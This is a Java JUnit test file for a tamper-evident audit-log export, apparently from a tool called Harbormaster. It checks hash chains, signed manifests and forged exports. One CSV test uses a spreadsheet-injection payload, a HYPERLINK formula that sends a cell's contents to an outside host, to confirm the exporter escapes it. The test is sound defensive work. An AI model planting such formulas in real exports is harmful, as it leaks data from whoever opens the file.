package io.harbormaster.engine.audit;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;

class AuditExportTest {
    final CheckpointSigner signer = CheckpointSigner.generate();

    String export(List<AuditEntry> entries, List<AuditCheckpoint> cps, boolean filtered) {
        // ChainVerifierTest's entries are all of checkout: a filter on it keeps them all
        return export(
                entries,
                cps,
                filtered ? AuditQuery.all().withService("checkout") : AuditQuery.all(),
                Optional.of(signer));
    }

    String export(
            List<AuditEntry> entries,
            List<AuditCheckpoint> cps,
            AuditQuery filter,
            Optional<CheckpointSigner> manifestSigner) {
        var out = new ByteArrayOutputStream();
        try (var w = AuditExport.json(
                out, Instant.EPOCH, filter, Map.of(signer.keyId(), signer.publicKeyBase64()), cps, manifestSigner)) {
            entries.forEach(w::entry);
            w.finish();
        }
        return out.toString(StandardCharsets.UTF_8);
    }

    static VerifyReport verify(String json, Optional<java.security.PublicKey> pinned) {
        return AuditExport.verify(new ByteArrayInputStream(json.getBytes(StandardCharsets.UTF_8)), pinned);
    }

    @Test
    void aFullJsonExportVerifiesOfflineAgainstItsPinnedKey() {
        var entries = ChainVerifierTest.chain(6);
        var cps = List.of(signer.checkpoint(6, entries.get(5).hash(), Instant.EPOCH));
        var report = verify(export(entries, cps, false), Optional.of(signer.publicKey()));
        assertThat(report.valid()).isTrue();
        assertThat(report.entries()).isEqualTo(6);
        assertThat(report.signedThrough()).isEqualTo(6);
    }

    @Test
    void anEditedExportIsCaughtAndTheEntryNamed() {
        var entries = ChainVerifierTest.chain(6);
        var json = export(entries, List.of(signer.checkpoint(6, entries.get(5).hash(), Instant.EPOCH)), false);
        var edited = json.replace(
                "\"decision\":\"auto\",\"reasoning\":\"{\\\"score\\\":4}\"",
                "\"decision\":\"auto\",\"reasoning\":\"{\\\"score\\\":0}\"");
        assertThat(edited).isNotEqualTo(json);
        var report = verify(edited, Optional.empty());
        assertThat(report.valid()).isFalse();
        assertThat(report.firstInvalid()).hasValue(4);
    }

    @Test
    void anExportReSignedWithAnotherKeyFailsWhenTheRealKeyIsPinned() {
        var entries = ChainVerifierTest.chain(3);
        var impostor = CheckpointSigner.generate();
        var json = export(entries, List.of(impostor.checkpoint(3, entries.get(2).hash(), Instant.EPOCH)), false);
        assertThat(verify(json, Optional.of(signer.publicKey())).valid()).isFalse();
    }

    /** Ten entries of deploys d-1 to d-10, alternating checkout (odd) and search (even), with the chain's times. */
    static List<AuditEntry> mixed(int n) {
        var out = new java.util.ArrayList<AuditEntry>();
        long seq = 0;
        String prev = AuditChain.GENESIS;
        for (int i = 1; i <= n; i++) {
            var r = ChainVerifierTest.record(i);
            var e = AuditChain.link(
                    seq,
                    prev,
                    new AuditRecord(
                            r.time(),
                            r.actor(),
                            r.action(),
                            r.deployId(),
                            i % 2 == 1 ? "checkout" : "search",
                            r.version(),
                            i % 5 == 0 ? "rollback" : "auto",
                            r.reasoningJson(),
                            r.engineVersion(),
                            r.policyVersion()));
            out.add(e);
            seq = e.seq();
            prev = e.hash();
        }
        return out;
    }

    static final ObjectMapper MAPPER = new ObjectMapper();

    static String edit(String json, java.util.function.Consumer<ObjectNode> change) throws Exception {
        var doc = (ObjectNode) MAPPER.readTree(json);
        change.accept(doc);
        return MAPPER.writeValueAsString(doc);
    }

    @Test
    void aFilteredExportWithItsSignedManifestIsCompleteForItsFilter() {
        var entries = mixed(10);
        var search = entries.stream()
                .filter(e -> e.record().service().equals("search"))
                .toList();
        var cps = List.of(
                signer.checkpoint(4, entries.get(3).hash(), Instant.EPOCH),
                signer.checkpoint(7, entries.get(6).hash(), Instant.EPOCH));
        var json = export(search, cps, AuditQuery.all().withService("search"), Optional.of(signer));
        for (var pinned : List.of(Optional.<java.security.PublicKey>empty(), Optional.of(signer.publicKey()))) {
            var report = verify(json, pinned);
            assertThat(report.valid()).as(report.reason()).isTrue();
            assertThat(report.complete()).isTrue();
            assertThat(report.scope()).isEqualTo(VerifyReport.Scope.FILTER);
            assertThat(report.entries()).isEqualTo(5);
            assertThat(report.checkpoints()).isEqualTo(2);
            assertThat(report.export().filter()).containsExactly(Map.entry("service", "search"));
            assertThat(report.export().exportedAt()).isEqualTo("1970-01-01T00:00:00Z");
            assertThat(report.export().manifestKey()).hasValue(signer.keyId());
        }
    }

    @Test
    void anEntryDeletedFromASignedFilteredExportIsCaughtByItsManifest() throws Exception {
        var entries = mixed(10);
        var search = entries.stream()
                .filter(e -> e.record().service().equals("search"))
                .toList();
        var json = export(search, List.of(), AuditQuery.all().withService("search"), Optional.of(signer));
        var report = verify(edit(json, d -> ((ArrayNode) d.get("entries")).remove(2)), Optional.empty());
        assertThat(report.valid()).isFalse();
        assertThat(report.complete()).isFalse();
        assertThat(report.reason())
                .isEqualTo("its signed manifest lists 5 entries and the file holds 4: entries were removed from the"
                        + " file");
        // the last entry deleted and the filter narrowed to excuse it: the manifest's signature no longer verifies
        var narrowed = verify(
                edit(json, d -> {
                    var list = (ArrayNode) d.get("entries");
                    list.remove(list.size() - 1);
                    ((ObjectNode) d.get("filter"))
                            .put("until", search.get(4).record().time().toString());
                }),
                Optional.empty());
        assertThat(narrowed.valid()).isFalse();
        assertThat(narrowed.reason()).contains("its signed manifest does not verify");
        // and so does another export time
        var moved = verify(edit(json, d -> d.put("exported_at", "2030-01-01T00:00:00Z")), Optional.empty());
        assertThat(moved.reason()).contains("its signed manifest does not verify");
    }

    @Test
    void aManifestSignedByAnotherKeyFailsWhenTheRealKeyIsPinned() {
        var impostor = CheckpointSigner.generate();
        var entries = mixed(4);
        var search = List.of(entries.get(1), entries.get(3));
        var out = new ByteArrayOutputStream();
        try (var w = AuditExport.json(
                out,
                Instant.EPOCH,
                AuditQuery.all().withService("search"),
                Map.of(impostor.keyId(), impostor.publicKeyBase64()),
                List.of(),
                Optional.of(impostor))) {
            search.forEach(w::entry);
            w.finish();
        }
        var json = out.toString(StandardCharsets.UTF_8);
        assertThat(verify(json, Optional.empty()).complete())
                .as("the key the file carries")
                .isTrue();
        var pinned = verify(json, Optional.of(signer.publicKey()));
        assertThat(pinned.valid()).isFalse();
        assertThat(pinned.reason()).isEqualTo("its manifest is signed by unknown key " + impostor.keyId());
    }

    /**
     * The hole QA found: a full export with an entry deleted and "filtered" set to true was reported as checked,
     * exit 0. A file cannot exempt itself from the chain check: without a signed manifest, it is checked entry by
     * entry only, and said to be.
     */
    @Test
    void aFullExportThatDeclaresItselfFilteredIsNotComplete() throws Exception {
        var entries = ChainVerifierTest.chain(6);
        var json = export(entries, List.of(signer.checkpoint(6, entries.get(5).hash(), Instant.EPOCH)), false);
        var forged = edit(json, d -> {
            ((ArrayNode) d.get("entries")).remove(2);
            d.put("filtered", true);
        });
        var report = verify(forged, Optional.empty());
        assertThat(report.valid()).as("nothing wrong in the entries themselves").isTrue();
        assertThat(report.scope()).isEqualTo(VerifyReport.Scope.ENTRIES);
        assertThat(report.complete()).isFalse();
        assertThat(report.export().filter()).isEmpty();
    }

    @Test
    void aFilteredExportWithoutAManifestIsCheckedEntryByEntryOnly() {
        var entries = mixed(6);
        var search = List.of(entries.get(1), entries.get(3), entries.get(5));
        var report = verify(
                export(search, List.of(), AuditQuery.all().withService("search"), Optional.empty()), Optional.empty());
        assertThat(report.valid()).isTrue();
        assertThat(report.scope()).isEqualTo(VerifyReport.Scope.ENTRIES);
        assertThat(report.export().filter()).containsEntry("service", "search");
        assertThat(report.export().manifestKey()).isEmpty();
    }

    @Test
    void aFilteredExportsAdjacentEntriesMustLinkAndItsCheckpointsMustMatch() throws Exception {
        var entries = ChainVerifierTest.chain(6);
        var window = AuditQuery.all()
                .withSince(ChainVerifierTest.T0.plusSeconds(2))
                .withUntil(ChainVerifierTest.T0.plusSeconds(5));
        var some = entries.subList(1, 4); // entries 2, 3 and 4
        var cp = signer.checkpoint(3, entries.get(2).hash(), Instant.EPOCH);
        var json = export(some, List.of(cp), window, Optional.empty());
        assertThat(verify(json, Optional.empty()).valid()).isTrue();

        // entry 3 replaced by one re-hashed over other reasoning: its own hash matches, its link from 4 does not
        var r3 = entries.get(2).record();
        var forged = AuditChain.link(
                2,
                entries.get(1).hash(),
                new AuditRecord(
                        r3.time(),
                        r3.actor(),
                        r3.action(),
                        r3.deployId(),
                        r3.service(),
                        r3.version(),
                        r3.decision(),
                        "{\"score\":33}",
                        r3.engineVersion(),
                        r3.policyVersion()));
        var relinked = verify(
                edit(json, d -> ((ArrayNode) d.get("entries")).set(1, MAPPER.valueToTree(entryJson(forged)))),
                Optional.empty());
        assertThat(relinked.valid()).isFalse();
        assertThat(relinked.firstInvalid()).hasValue(3);
        assertThat(relinked.reason()).isEqualTo("entry 3 differs from what the signed checkpoint says");

        var withoutCheckpoint = verify(
                edit(export(some, List.of(), window, Optional.empty()), d -> ((ArrayNode) d.get("entries"))
                        .set(1, MAPPER.valueToTree(entryJson(forged)))),
                Optional.empty());
        assertThat(withoutCheckpoint.firstInvalid()).hasValue(4);
        assertThat(withoutCheckpoint.reason()).isEqualTo("entry 4 does not link to entry 3 before it");

        // a checkpoint whose signature was edited is caught though its entry is in the file
        var badSignature = verify(
                edit(json, d -> ((ObjectNode) d.get("checkpoints").get(0)).put("signature", "AAAA")), Optional.empty());
        assertThat(badSignature.reason()).isEqualTo("checkpoint at entry 3 has a signature that does not verify");
    }

    @Test
    void aFilteredExportsEntriesMustMatchItsFilterAndComeInOrder() throws Exception {
        var entries = mixed(6);
        var search = List.of(entries.get(1), entries.get(3), entries.get(5));
        var json = export(search, List.of(), AuditQuery.all().withService("search"), Optional.empty());
        var other = verify(
                edit(json, d -> ((ArrayNode) d.get("entries")).set(1, MAPPER.valueToTree(entryJson(entries.get(2))))),
                Optional.empty());
        assertThat(other.valid()).isFalse();
        assertThat(other.reason())
                .isEqualTo("entry 3 does not match the export's filter (service=search): its service is checkout");

        var swapped = verify(
                edit(json, d -> {
                    var list = (ArrayNode) d.get("entries");
                    var first = list.remove(0);
                    list.add(first);
                }),
                Optional.empty());
        assertThat(swapped.reason()).startsWith("entry 2 comes after entry 6 in the file");
    }

    @Test
    void aFullExportCarryingAFilterOrAManifestWasChanged() throws Exception {
        var entries = ChainVerifierTest.chain(3);
        var full = export(entries, List.of(), false);
        var report = verify(edit(full, d -> d.putObject("filter").put("service", "checkout")), Optional.empty());
        assertThat(report.valid()).isFalse();
        assertThat(report.reason()).contains("says it is not filtered, but carries a filtered export's filter");
    }

    @Test
    void anExportWhoseWritingFailedIsLeftCutShortNotSigned() {
        var entries = mixed(4);
        var out = new ByteArrayOutputStream();
        try (var w = AuditExport.json(
                out,
                Instant.EPOCH,
                AuditQuery.all().withService("search"),
                Map.of(signer.keyId(), signer.publicKeyBase64()),
                List.of(),
                Optional.of(signer))) {
            w.entry(entries.get(1));
            // the scan fails here: finish() is never called
        }
        var json = out.toString(StandardCharsets.UTF_8);
        assertThat(json).doesNotContain("manifest");
        assertThatThrownBy(() -> verify(json, Optional.empty())).hasMessageContaining("not valid JSON");
    }

    static Map<String, Object> entryJson(AuditEntry e) {
        var r = e.record();
        var m = new java.util.LinkedHashMap<String, Object>();
        m.put("seq", e.seq());
        m.put("time", r.time().toString());
        m.put("actor", r.actor());
        m.put("action", r.action());
        m.put("deploy", r.deployId());
        m.put("service", r.service());
        m.put("version", r.version());
        m.put("decision", r.decision());
        m.put("reasoning", r.reasoningJson());
        m.put("engine_version", r.engineVersion());
        m.put("policy_version", r.policyVersion());
        m.put("prev_hash", e.prevHash());
        m.put("hash", e.hash());
        return m;
    }

    @Test
    void aCsvExportsHeaderIsKnownForWhatItIs() {
        var out = new StringWriter();
        AuditExport.csvHeader(out);
        assertThat(AuditExport.isCsvHeader(out.toString().split("\r\n")[0])).isTrue();
        assertThat(AuditExport.isCsvHeader("\uFEFF" + out.toString().strip())).isTrue();
        assertThat(AuditExport.isCsvHeader("{\"format\":\"harbormaster-audit-export-v1\""))
                .isFalse();
    }

    @Test
    void somethingThatIsNotAnExportIsRefusedWithAReason() {
        assertThatThrownBy(() -> verify("[1,2]", Optional.empty())).hasMessageContaining("one JSON object");
        assertThatThrownBy(() -> verify("{\"format\":\"x\",\"entries\":[]}", Optional.empty()))
                .hasMessageContaining("not a Harbormaster audit export");
        assertThatThrownBy(() -> verify("{\"format\":", Optional.empty())).hasMessageContaining("not valid JSON");
    }

    @Test
    void csvFieldsThatASpreadsheetWouldRunAsAFormulaAreWrittenAsText() {
        var hostile = new AuditRecord(
                Instant.parse("2026-11-23T10:00:00Z"),
                "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")",
                "deploy.requested",
                "7",
                "checkout",
                "1.4.1",
                "accepted",
                "{\"lock_reason\":\"=1+1\"}",
                "@evil",
                "-2+3");
        var out = new StringWriter();
        AuditExport.csvEntry(out, AuditChain.link(0, AuditChain.GENESIS, hostile));

        var row = out.toString();
        assertThat(row).contains(",\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"open\"\")\",");
        assertThat(row).contains(",'@evil,'-2+3,");
        // a value that only contains a formula character further in is written as stored
        assertThat(row).contains(",\"{\"\"lock_reason\"\":\"\"=1+1\"\"}\",");
        assertThat(AuditExport.spreadsheetSafe("\tcmd")).isEqualTo("'\tcmd");
        assertThat(AuditExport.spreadsheetSafe("U0ENGINEER")).isEqualTo("U0ENGINEER");
        assertThat(AuditExport.spreadsheetSafe("")).isEmpty();
    }

    @Test
    void csvQuotesFieldsThatNeedIt() {
        var out = new StringWriter();
        AuditExport.csvHeader(out);
        AuditExport.csvEntry(out, ChainVerifierTest.chain(1).getFirst());
        var lines = out.toString().split("\r\n");
        assertThat(lines[0]).startsWith("seq,time,actor,action");
        assertThat(lines[1]).contains(",\"{\"\"score\"\":1}\",").startsWith("1,2026-11-23T10:00:01Z,engine,");
    }
}
